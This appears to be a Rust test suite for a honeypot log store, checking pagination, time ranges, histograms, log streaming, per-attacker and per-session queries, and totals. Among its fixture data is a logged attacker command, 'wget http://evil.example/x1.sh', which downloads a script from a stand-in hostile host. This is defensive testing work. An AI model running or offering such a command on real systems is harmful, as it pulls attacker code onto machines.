//! Lists, pages, streams, histograms, totals.

use crate::world::{World, at, log, on_every_backend, uuid};
use model::Micros;
use store::{LogQuery, NewLog};

fn ask(search: &str) -> LogQuery {
    LogQuery { search: Some(search.into()), limit: 1_000, ..LogQuery::default() }
}

on_every_backend! {
    async fn pages_do_not_overlap_and_totals_are_exact(world: &World) {
        world.logs((0..25).map(log).collect()).await;
        for search in [None, Some("service:ssh"), Some("attacker:192.0.2.1"), Some("wget")] {
            let mut seen = Vec::new();
            for offset in [0, 10, 20, 30] {
                let page = world.store.logs(&LogQuery { search: search.map(Into::into), limit: 10, offset, ..LogQuery::default() }).await.unwrap();
                assert_eq!((page.total, page.limit, page.offset), (25, 10, offset), "{search:?}");
                seen.extend(page.data.iter().map(|row| row.id));
            }
            assert!(seen.into_iter().eq((1..=25).rev()), "{search:?}");
        }
        let negative = world.store.logs(&LogQuery { limit: -5, offset: -5, ..LogQuery::default() }).await.unwrap();
        assert!(negative.data.is_empty());
    }

    async fn a_row_comes_back_as_it_was_written(world: &World) {
        let mut sparse = NewLog { src_port: None, dst_port: None, session_id: None, attacker_ip: String::new(), fields: "{}".into(), ..log(2) };
        sparse.session_id = Some("not a uuid".into());
        world.logs(vec![log(1), sparse]).await;
        let rows = world.store.logs_after(0, 10).await.unwrap();
        let row = &rows[0];
        assert_eq!((row.event_uuid.as_str(), row.timestamp.0, row.decky.as_str()), (uuid(1).as_str(), at(1), "local:web-01"));
        assert_eq!((row.service.as_str(), row.event_type.as_str(), row.attacker_ip.as_str()), ("ssh", "command", "192.0.2.1"));
        assert_eq!((row.src_port, row.dst_port, row.session_id.clone()), (Some(40_000), Some(22), Some(uuid(1_000_000))));
        assert_eq!((row.fields["command"].as_str(), row.msg.as_str()), (Some("wget http://evil.example/x1.sh"), "ran command number1"));
        let row = &rows[1];
        assert_eq!((row.src_port, row.dst_port, row.session_id.as_deref(), row.attacker_ip.as_str()), (None, None, Some("not a uuid"), ""));
        assert_eq!(world.store.session_logs("not a uuid", 10, 0).await.unwrap().data[0].id, 2);
    }

    async fn time_is_a_half_open_span(world: &World) {
        // Out of order, as when a host's spool arrives late.
        let mut logs: Vec<NewLog> = (0..300).map(log).collect();
        logs.rotate_left(170);
        world.logs(logs.split_off(150)).await;
        world.logs(logs).await;
        for indexed in [false, true] {
            if indexed {
                world.index().await;
            }
            for (start, end) in [(None, None), (Some(0), Some(60)), (Some(30), None), (None, Some(121)), (Some(59), Some(61)), (Some(10), Some(20)), (Some(7), Some(300)), (Some(90), Some(90)), (Some(400), None)] {
                let expect = (0..300).filter(|s| start.is_none_or(|x| *s >= x) && end.is_none_or(|x| *s < x)).count();
                for search in ["", "service:ssh", "wget", "attacker:192.0.2.1", "attacker:192.0.2.1 wget"] {
                    let query = LogQuery { start: start.map(at), end: end.map(at), ..ask(search) };
                    let page = world.store.logs(&query).await.unwrap();
                    assert_eq!(page.data.len(), expect, "{search} {start:?} {end:?} {indexed}");
                    assert_eq!(usize::try_from(page.total).unwrap(), expect, "{search} {start:?} {end:?} {indexed}");
                    assert!(page.data.is_sorted_by(|a, b| a.id > b.id));
                    for bucket in [60, 300, 7, 1] {
                        let bars = world.store.histogram(&query, bucket).await.unwrap();
                        let sum: i64 = bars.iter().map(|bar| bar.count).sum();
                        assert_eq!(usize::try_from(sum).unwrap(), expect, "{search} {start:?} {end:?} {bucket} {indexed}");
                        assert!(bars.is_sorted_by(|a, b| a.time < b.time));
                        assert!(bars.iter().all(|bar| bar.time.0.0 % (bucket * 1_000_000) == 0));
                    }
                }
            }
        }
    }

    async fn bars_are_where_their_rows_are(world: &World) {
        world.logs([1, 2, 61, 200, 3_700].map(log).to_vec()).await;
        let bars = |bucket| {
            let store = world.store.clone();
            async move { store.histogram(&LogQuery::default(), bucket).await.unwrap().iter().map(|b| ((b.time.0.0 - at(0).0) / 1_000_000, b.count)).collect::<Vec<_>>() }
        };
        assert_eq!(bars(60).await, [(0, 2), (60, 1), (180, 1), (3_660, 1)]);
        assert_eq!(bars(3_600).await, [(0, 4), (3_600, 1)]);
        assert_eq!(bars(1).await, [(1, 1), (2, 1), (61, 1), (200, 1), (3_700, 1)]);
    }

    async fn a_stream_goes_on_after_an_id(world: &World) {
        world.logs((0..20).map(|n| NewLog { service: if n % 2 == 0 { "ssh".into() } else { "http".into() }, ..log(n) }).collect()).await;
        let ids = |query: LogQuery| {
            let store = world.store.clone();
            async move { store.logs(&query).await.unwrap().data.iter().map(|row| row.id).collect::<Vec<_>>() }
        };
        for indexed in [0, 9, 1_000] {
            if indexed > 0 {
                world.store.index_text(indexed).await.unwrap();
            }
            assert_eq!(ids(LogQuery { after_id: Some(17), limit: 10, ..LogQuery::default() }).await, [18, 19, 20]);
            let ssh = LogQuery { after_id: Some(4), ..ask("service:ssh wget") };
            assert_eq!(ids(LogQuery { limit: 5, ..ssh.clone() }).await, [5, 7, 9, 11, 13]);
            assert_eq!(ids(LogQuery { limit: 2, offset: 4, ..ssh.clone() }).await, [13, 15]);
            assert_eq!(ids(LogQuery { limit: 9, offset: 7, ..ssh }).await, [19]);
            assert_eq!(ids(LogQuery { after_id: Some(i64::MAX), limit: 5, ..LogQuery::default() }).await, [0; 0]);
        }
        assert_eq!(world.store.logs_after(18, 1).await.unwrap()[0].id, 19);
        assert_eq!(world.store.last_log_id().await.unwrap(), 20);
    }

    async fn logs_of_one_attacker_and_one_session(world: &World) {
        let of = |n: u32, ip: &str, event: &str, session: u32| NewLog { attacker_ip: ip.into(), event_type: event.into(), session_id: Some(uuid(session)), ..log(n) };
        world.logs(vec![
            of(1, "10.0.0.1", "connect", 11), of(2, "10.0.0.1", "command", 11), of(3, "10.0.0.10", "command", 12),
            of(4, "10.0.0.1", "command", 13), of(5, "", "connect", 14),
        ]).await;
        for indexed in [false, true] {
            if indexed {
                world.index().await;
            }
            let page = world.store.attacker_logs("10.0.0.1", None, None, 10, 0).await.unwrap();
            assert_eq!((page.total, page.data.iter().map(|r| r.id).collect::<Vec<_>>()), (3, vec![4, 2, 1]));
            let page = world.store.attacker_logs("10.0.0.1", Some("command"), Some("ssh"), 1, 1).await.unwrap();
            assert_eq!((page.total, page.data.iter().map(|r| r.id).collect::<Vec<_>>()), (2, vec![2]));
            assert_eq!(world.store.attacker_logs("", None, None, 10, 0).await.unwrap().total, 0);
            let page = world.store.session_logs(&uuid(11), 10, 0).await.unwrap();
            assert_eq!((page.total, page.data.iter().map(|r| r.id).collect::<Vec<_>>()), (2, vec![1, 2]));
            let page = world.store.logs(&ask(&format!("session:{} event:command", uuid(11)))).await.unwrap();
            assert_eq!((page.total, page.data[0].id), (1, 2));
        }
    }

    async fn stats_count_what_is_there(world: &World) {
        let now = Micros(at(10).0);
        let empty = world.store.stats(now).await.unwrap();
        assert_eq!((empty.total_logs, empty.last_seen), (0, None));
        let yesterday = NewLog { at: Micros(at(0).0 - 1), decky: "local:db-02".into(), ..log(99) };
        world.logs(vec![yesterday, log(1), log(2), log(3)]).await;
        let stats = world.store.stats(now).await.unwrap();
        assert_eq!((stats.total_logs, stats.logs_today, stats.active_deckies, stats.last_log_id), (4, 3, 2, 4));
        assert_eq!(stats.last_seen.unwrap().0, at(3));
    }
}
